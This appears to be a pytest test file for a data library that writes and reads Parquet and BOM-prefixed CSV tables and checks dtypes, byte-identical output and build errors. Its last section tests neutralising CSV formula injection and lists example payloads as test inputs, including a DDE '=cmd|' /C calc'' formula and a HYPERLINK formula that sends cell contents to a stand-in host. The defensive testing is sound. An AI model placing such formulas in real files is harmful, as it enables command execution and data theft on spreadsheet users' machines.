"""Processed tables: Parquet that reads back with the dtypes it was written with, a CSV with a
BOM for Excel, the same bytes for the same data, and a missing table that says what to run.
"""
from __future__ import annotations

import pandas as pd
import pyarrow.parquet as pq
import pytest

from ledgerlib.tables import (TABLES, BuildIncompleteError, empty_table, load_processed, read_table, write_stamp,
                              write_table)


def _frame() -> pd.DataFrame:
    """One column of each dtype the data contract uses, with missing values where they occur."""
    return pd.DataFrame({
        "department": pd.array(["运管科", None, "法规科"], dtype="str"),
        "month": pd.array(["2021-06", "2021-06", "2021-07"], dtype="str"),
        "due_date": pd.to_datetime(["2021-06-30", None, "2021-10-13"]).astype("datetime64[us]"),
        "received_at": pd.to_datetime(["2021-07-05 15:00:55", "2021-07-06 09:30:00", None],
                                      format="ISO8601").astype("datetime64[us]"),
        "superseded": [False, True, False],
        "count": pd.array([3, 0, 120], dtype="Int64"),  # how submissions parse counts
        "row": pd.array([5, 6, 7], dtype="int64"),
        "filled_ratio": [0.6, None, 0.75],
    })


def test_round_trip_keeps_values_and_dtypes(tmp_path):
    df = _frame()
    path = write_table(df, tmp_path, "progress")
    assert path == tmp_path / "progress.parquet"
    back = read_table("progress", tmp_path)
    # Nullable Int64 counts come back Int64: only those dtypes are kept in the file's metadata.
    want = {c: str(t) for c, t in df.dtypes.items()}
    assert {c: str(t) for c, t in back.dtypes.items()} == want
    assert str(back["department"].dtype) == "str" and pd.isna(back.loc[1, "department"])
    assert str(back["due_date"].dtype) == "datetime64[us]" and pd.isna(back.loc[1, "due_date"])
    assert back.loc[0, "received_at"] == pd.Timestamp("2021-07-05 15:00:55")
    assert back["superseded"].dtype == bool
    assert back["count"].tolist() == [3, 0, 120]
    pd.testing.assert_frame_equal(back, df, check_exact=True)


def test_nullable_int_with_a_missing_value_round_trips(tmp_path):
    write_table(pd.DataFrame({"count": pd.array([3, None], dtype="Int64")}), tmp_path, "t")
    assert str(read_table("t", tmp_path)["count"].dtype) == "Int64"


def test_an_empty_table_keeps_its_columns_and_dtypes(tmp_path):
    df = _frame().iloc[:0]
    write_table(df, tmp_path, "joint_cases")
    back = read_table("joint_cases", tmp_path)
    assert list(back.columns) == list(df.columns) and len(back) == 0
    pd.testing.assert_frame_equal(back, df.reset_index(drop=True))


def test_rows_are_sorted_stably_with_missing_keys_last(tmp_path):
    df = pd.DataFrame({"k": pd.array(["b", None, "a", "b"], dtype="str"), "n": [1, 2, 3, 4]},
                      index=[10, 11, 12, 13])
    write_table(df, tmp_path, "t", sort_by=["k"])
    back = read_table("t", tmp_path)
    assert back["n"].tolist() == [3, 1, 4, 2]  # a, b (1 before 4 as given), missing last
    assert back.index.tolist() == [0, 1, 2, 3]


def test_rewrite_is_byte_identical(tmp_path):
    df = _frame()
    write_table(df, tmp_path / "a", "t")
    # Same data reached another way: read back, shuffled and re-sorted, with attrs attached.
    again = read_table("t", tmp_path / "a").sample(frac=1, random_state=1)
    again.attrs["problems"] = ["side channel, not table data"]
    write_table(again, tmp_path / "b", "t", sort_by=["row"])
    for name in ("t.parquet", "t.csv"):
        assert (tmp_path / "a" / name).read_bytes() == (tmp_path / "b" / name).read_bytes(), name
    changed = df.assign(row=df["row"] + 1)
    write_table(changed, tmp_path / "c", "t")
    assert (tmp_path / "c" / "t.parquet").read_bytes() != (tmp_path / "a" / "t.parquet").read_bytes()


def test_parquet_metadata_holds_no_library_versions(tmp_path):
    write_table(_frame(), tmp_path, "t")
    meta = pq.read_schema(tmp_path / "t.parquet").metadata or {}
    assert not any(b"version" in k or b"version" in v for k, v in meta.items())


def test_csv_is_utf8_with_bom_and_newline_line_ends(tmp_path):
    write_table(_frame(), tmp_path, "t")
    raw = (tmp_path / "t.csv").read_bytes()
    assert raw.startswith(b"\xef\xbb\xbf")
    assert b"\r" not in raw and raw.endswith(b"\n")
    text = raw.decode("utf-8-sig")
    lines = text.split("\n")
    assert lines[0] == ",".join(_frame().columns)
    assert "运管科" in lines[1]
    csv = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", dtype=str, keep_default_na=False)
    assert csv["due_date"].tolist() == ["2021-06-30", "", "2021-10-13"]  # dates stay dates
    # A time of day is kept, not cut to the date: lateness is judged on it.
    assert csv["received_at"].tolist()[:2] == ["2021-07-05 15:00:55", "2021-07-06 09:30:00"]
    assert csv["count"].tolist() == ["3", "0", "120"]
    assert csv["superseded"].tolist() == ["False", "True", "False"]


def test_read_table_on_a_missing_table_says_to_build(tmp_path):
    with pytest.raises(FileNotFoundError, match="ledger build"):
        read_table("progress", tmp_path)


def test_load_processed_refuses_a_missing_or_half_built_folder(tmp_path):
    with pytest.raises(BuildIncompleteError, match="ledger build") as err:
        load_processed(tmp_path / "nothing")  # used to return {}, then KeyError: 'ledger'
    assert "nothing" in str(err.value) and "不存在" in str(err.value)
    write_table(_frame(), tmp_path, "progress")
    write_table(pd.DataFrame({"task_id": ["T01"]}), tmp_path, "ledger")
    with pytest.raises(BuildIncompleteError, match="ledger build"):
        load_processed(tmp_path)  # a build that stopped before its stamp
    write_stamp(tmp_path)
    (tmp_path / "progress.parquet").unlink()  # a stamped build missing a table
    with pytest.raises(BuildIncompleteError, match="ledger build") as err:
        load_processed(tmp_path)
    assert "progress.parquet" in str(err.value)


def test_load_processed_returns_the_tables_present(tmp_path):
    write_table(_frame(), tmp_path, "progress")
    write_table(pd.DataFrame({"task_id": ["T01"]}), tmp_path, "ledger")
    write_table(pd.DataFrame({"x": [1]}), tmp_path, "not_a_contract_table")
    write_stamp(tmp_path)
    loaded = load_processed(tmp_path)
    assert set(loaded) == {"ledger", "progress"} and set(loaded) <= set(TABLES)
    assert loaded["ledger"]["task_id"].tolist() == ["T01"]


def test_load_processed_returns_every_table_of_a_complete_build(tmp_path):
    for name in TABLES:
        write_table(empty_table(name), tmp_path, name)
    write_table(pd.DataFrame({"task_id": ["T01"]}), tmp_path, "ledger")
    write_table(pd.DataFrame({"x": [1]}), tmp_path, "not_a_contract_table")
    write_stamp(tmp_path)
    loaded = load_processed(tmp_path)
    assert list(loaded) == list(TABLES)
    assert loaded["ledger"]["task_id"].tolist() == ["T01"]


# --- one CSV writer: fields no spreadsheet will run (OWASP CSV injection) ------------------

@pytest.mark.parametrize("text,written", [
    ('=HYPERLINK("http://x/?d="&A1,"点击")', '\'=HYPERLINK("http://x/?d="&A1,"点击")'),
    ("=cmd|' /C calc'!A0", "'=cmd|' /C calc'!A0"),
    ("+1+cmd|' /C calc'!A0", "'+1+cmd|' /C calc'!A0"),
    ("-2+3", "'-2+3"),
    ("@SUM(A1:A2)", "'@SUM(A1:A2)"),
    ("\t=1+1", "'\t=1+1"),
    ("\r=1+1", "'\n=1+1"),  # and a bare CR, which would split the row, becomes a quoted line break
    ("a\r\nb", "a\nb"),
    ("-3", "-3"), ("+5", "+5"), ("-12.5%", "-12.5%"), ("1e3", "1e3"),  # numbers stay numbers
    ("安阳市", "安阳市"), ("a=b", "a=b"), ("", ""),
])
def test_a_field_starting_like_a_formula_is_written_inert(tmp_path, text, written):
    import csv

    from ledgerlib.tables import write_csv

    path = write_csv(pd.DataFrame({"说明": pd.array([text], dtype="str"), "数量": [-3]}), tmp_path / "t.csv")
    with open(path, encoding="utf-8-sig", newline="") as fh:
        rows = list(csv.reader(fh))
    assert rows == [["说明", "数量"], [written, "-3"]]


def test_processed_csv_neutralises_text_but_parquet_keeps_it(tmp_path):
    df = pd.DataFrame({"matter": pd.array(["=1+2", "普通"], dtype="str"), "count": pd.array([-1, 2], dtype="Int64")})
    write_table(df, tmp_path, "t")
    assert read_table("t", tmp_path)["matter"].tolist() == ["=1+2", "普通"]
    csv = pd.read_csv(tmp_path / "t.csv", encoding="utf-8-sig", dtype=str)
    assert csv["matter"].tolist() == ["'=1+2", "普通"] and csv["count"].tolist() == ["-1", "2"]
    assert not list(tmp_path.glob(".*"))  # the temporary file was renamed into place


def test_a_header_starting_like_a_formula_is_inert_too(tmp_path):
    from ledgerlib.tables import write_csv

    write_csv(pd.DataFrame({"=x": [1]}), tmp_path / "h.csv")
    assert (tmp_path / "h.csv").read_text(encoding="utf-8-sig").splitlines()[0] == "'=x"


@pytest.mark.parametrize("dtype", ["str", "object"])
def test_a_long_column_is_made_inert_only_where_needed(tmp_path, dtype):
    import csv

    from ledgerlib.tables import write_csv

    # A province column is tested whole; the few risky fields among many plain ones change.
    texts = ["普通"] * 500 + ["=1+1", None, "-7", "a\rb", "@x"] + ["普通"] * 500
    write_csv(pd.DataFrame({"说明": pd.array(texts, dtype=dtype)}), tmp_path / "t.csv")
    with open(tmp_path / "t.csv", encoding="utf-8-sig", newline="") as fh:
        rows = [r[0] for r in list(csv.reader(fh))[1:]]
    assert rows[500:505] == ["'=1+1", "", "-7", "a\nb", "'@x"]
    assert rows[:500] == rows[505:] == ["普通"] * 500
